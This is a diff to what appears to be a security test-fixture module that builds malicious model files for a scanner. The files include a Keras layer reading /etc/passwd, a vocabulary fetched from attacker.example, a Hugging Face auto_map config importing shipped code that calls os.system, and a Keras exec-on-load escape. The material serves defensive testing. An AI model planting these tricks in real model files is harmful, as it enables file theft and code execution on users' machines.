@@ -366,6 +366,49 @@ def keras_dense(name: str = "dense", **config: Any) -> dict[str, Any]:
     return keras_layer("Dense", {"name": name, "units": 2, "activation": "relu", **config})
 
 
+# -- what a loader reads from outside the file (issue 14, next attacks) ----------------------------------
+def keras_lookup_vocabulary_path(path: str = "/etc/passwd") -> bytes:
+    """A StringLookup whose vocabulary is a path: Keras reads that file when it builds the layer."""
+    lookup = keras_layer("StringLookup", {"name": "lookup", "vocabulary": path, "output_mode": "int"})
+    return keras_zip(keras_sequential(lookup, keras_dense()))
+
+
+def keras_fetched_file(url: str = "https://attacker.example/vocab.txt") -> bytes:
+    """A TextVectorization whose vocabulary is a URL (tf.io.gfile fetches gs:// / http(s) paths)."""
+    layer = keras_layer("TextVectorization", {"name": "vectorize", "vocabulary": url, "max_tokens": 10})
+    return keras_zip(keras_sequential(layer))
+
+
+def hf_config_auto_map() -> bytes:
+    """A Hugging Face config.json whose auto_map makes transformers import code shipped with the repo."""
+    return json.dumps(
+        {
+            "architectures": ["EvilModel"],
+            "model_type": "evil",
+            "auto_map": {
+                "AutoConfig": "configuration_evil.EvilConfig",
+                "AutoModel": "modeling_evil.EvilModel",
+            },
+        }
+    ).encode()
+
+
+def remote_code_module() -> bytes:
+    """modeling_evil.py: what trust_remote_code=True imports (harmless payload, never imported here)."""
+    return b"import os\n\nclass EvilModel:\n    def __init__(self):\n        os.system('echo pwned')\n"
+
+
+def model_repo_with_remote_code() -> bytes:
+    """A model repository as a tar: weights, a config with auto_map, and the module it names."""
+    return tar_of(
+        {
+            "repo/config.json": hf_config_auto_map(),
+            "repo/modeling_evil.py": remote_code_module(),
+            "repo/model.safetensors": safetensors_benign(),
+        }
+    )
+
+
 def keras_safe_mode_escape() -> bytes:
     """A Dense layer whose activation is `builtins.exec` referenced as a function: runs on load."""
     evil = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
